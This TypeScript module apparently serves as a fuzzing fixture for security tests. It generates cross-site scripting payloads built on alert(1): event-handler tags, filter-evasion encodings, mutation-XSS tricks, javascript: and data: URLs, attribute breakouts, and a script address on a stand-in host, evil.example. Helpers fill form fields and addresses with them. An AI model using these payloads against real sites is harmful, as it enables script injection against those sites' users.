/**
 * Texts that become a program where a page lets them: generated after the filter-evasion cheat sheet
 * of OWASP (tags and handlers that run by themselves, the contexts that they break out of, the ways
 * to write them past a filter), and what the Big List of Naughty Strings has of the kind.
 */
import naughtyStrings from 'big-list-of-naughty-strings/blns.json' with { type: 'json' };

const CALL = 'alert(1)';
const entities = (text: string) => [...text].map((letter) => `&#${letter.charCodeAt(0)};`).join('');

/** Run by themselves in today's browsers, once they are markup. */
const programs = [
  `<script>${CALL}</script>`,
  `<script src=data:,${CALL}></script>`,
  `<script type=module>${CALL}</script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="${entities(CALL)}">`,
  `<IMG SRC=x OnErRoR=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img\nsrc=x\nonerror\n=\n${CALL}\n>`,
  `<img src=x onerror=${CALL}//`,
  `<image src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributename=x>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<body onload=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<div tabindex=1 autofocus onfocus=${CALL}>x</div>`,
  `<video src=x onerror=${CALL}></video>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe src="jav&#x09;ascript:parent.${CALL}"></iframe>`,
  `<iframe onload=${CALL}></iframe>`,
  `<object data=x onerror=${CALL}></object>`,
  `<link rel=stylesheet href=x onerror=${CALL}>`,
  `<style onload=${CALL}></style>`,
  `<style>@keyframes z{}</style><p style="animation-name:z" onanimationstart=${CALL}>x</p>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><svg/onload=${CALL}>">`,
  `<a href="x" style="x" onfocus=${CALL} autofocus tabindex=1>x</a>`,
];

/** What a text may have to break out of first. */
const breakouts = [
  '',
  '">',
  "'>",
  '"/>',
  '`>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '--!>',
  ']]>',
  '**',
  '\\u003c/script>',
  '&quot;&gt;',
  '<!--<script>',
];

/** For attributes and addresses: there is no bracket to escape. */
const withoutBrackets = [
  `" autofocus onfocus=${CALL} x="`,
  `' autofocus onfocus=${CALL} x='`,
  `" onerror=${CALL} "`,
  `x" onload="${CALL}`,
  `";${CALL}//`,
  `';${CALL}//`,
  `\\";${CALL}//`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,${btoa(`<script>parent.${CALL}</script>`)}`,
  `vbscript:${CALL}`,
  `//evil.example/x.js`,
];

const linked = withoutBrackets.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<form action="${address}"><button autofocus>x</button></form>`,
]);

/** Every one of them, those of the generator first. */
export const payloads: readonly string[] = [
  ...breakouts.flatMap((before) => programs.map((program) => before + program)),
  ...withoutBrackets,
  ...linked,
  ...naughtyStrings.filter((text) => /alert|javascript|onerror|<script/i.test(text)),
];

/** Those that are to run by themselves where nothing protects the page: they prove the detector. */
export const runningAlone: readonly string[] = programs;

const payloadAt = (place: number) => payloads[place % payloads.length] ?? '';

/** As many payloads, one a line, as a field holds, from a place in the list on. */
export function filling(length: number, place: number): string {
  const from = place % payloads.length;
  const turned = [...payloads.slice(from), ...payloads.slice(0, from)];
  let text = '';
  for (const payload of turned) {
    if (text.length + payload.length + 1 <= length) text += `${payload}\n`;
  }
  return text.trim();
}

/** The same for a field of one line. */
export const lineOf = (length: number, place: number) =>
  filling(length, place).replaceAll('\n', ' ');

/** An address that a form takes, and that would break out of an attribute. */
export const addressWith = (place: number) =>
  `https://shop.example/${payloadAt(place).replace(/\s/g, '/')}`;
